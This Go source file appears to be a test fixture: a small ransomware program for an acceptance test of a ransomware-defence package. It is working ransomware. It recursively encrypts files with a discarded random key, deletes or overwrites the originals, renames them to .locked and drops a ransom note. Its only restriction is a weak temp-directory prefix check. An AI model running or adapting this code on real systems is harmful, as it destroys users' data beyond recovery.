// Command locker is a test ransomware for internal/ransom's acceptance
// test: it encrypts every file under a directory with AES-GCM and renames
// it to .locked. It never runs outside the test's temporary directory.
//
// After each file it changes it appends "changed PATH" to -log with one
// write, so the count survives a SIGKILL.
package main

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

func main() {
	dir := flag.String("dir", "", "directory to encrypt")
	order := flag.String("order", "readdir", "readdir or sorted")
	mode := flag.String("mode", "inplace", "inplace (overwrite, then rename) or copy (write .locked, delete original)")
	skip := flag.String("skip", "", "comma-separated name prefixes to leave alone")
	logPath := flag.String("log", "", "file to record changed paths in")
	flag.Parse()
	if !strings.HasPrefix(*dir, os.TempDir()) {
		fmt.Fprintln(os.Stderr, "locker: refusing a directory outside", os.TempDir())
		os.Exit(2)
	}
	log, err := os.OpenFile(*logPath, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o600)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	key := make([]byte, 32)
	rand.Read(key)
	blk, _ := aes.NewCipher(key)
	aead, _ := cipher.NewGCM(blk)
	l := &locker{aead: aead, log: log, sorted: *order == "sorted", copy: *mode == "copy"}
	for _, p := range strings.Split(*skip, ",") {
		if p != "" {
			l.skip = append(l.skip, p)
		}
	}
	if err := l.walk(*dir); err != nil {
		fmt.Fprintln(os.Stderr, "locker:", err)
		os.Exit(1)
	}
}

type locker struct {
	aead   cipher.AEAD
	log    *os.File
	sorted bool
	copy   bool
	skip   []string
}

func (l *locker) walk(dir string) error {
	f, err := os.Open(dir)
	if err != nil {
		return err
	}
	names, err := f.Readdirnames(-1)
	f.Close()
	if err != nil {
		return err
	}
	if l.sorted {
		sort.Strings(names)
	}
	note := filepath.Join(dir, "README_LOCKED.txt")
	os.WriteFile(note, []byte("Your files are encrypted. Send 1 BTC to get them back.\n"), 0o644)
names:
	for _, n := range names {
		for _, s := range l.skip {
			if strings.HasPrefix(n, s) {
				continue names
			}
		}
		p := filepath.Join(dir, n)
		fi, err := os.Lstat(p)
		if err != nil {
			continue
		}
		if fi.IsDir() {
			if err := l.walk(p); err != nil {
				return err
			}
			continue
		}
		if !fi.Mode().IsRegular() || strings.HasSuffix(n, ".locked") || p == note {
			continue
		}
		if err := l.lock(p); err != nil {
			return err
		}
	}
	return nil
}

func (l *locker) lock(p string) error {
	plain, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	nonce := make([]byte, l.aead.NonceSize())
	rand.Read(nonce)
	out := l.aead.Seal(nonce, nonce, plain, nil)
	if l.copy {
		if err := os.WriteFile(p+".locked", out, 0o644); err != nil {
			return err
		}
		l.log.WriteString("changed " + p + "\n")
		return os.Remove(p)
	}
	f, err := os.OpenFile(p, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return err
	}
	_, err = f.Write(out)
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return err
	}
	l.log.WriteString("changed " + p + "\n")
	return os.Rename(p, p+".locked")
}
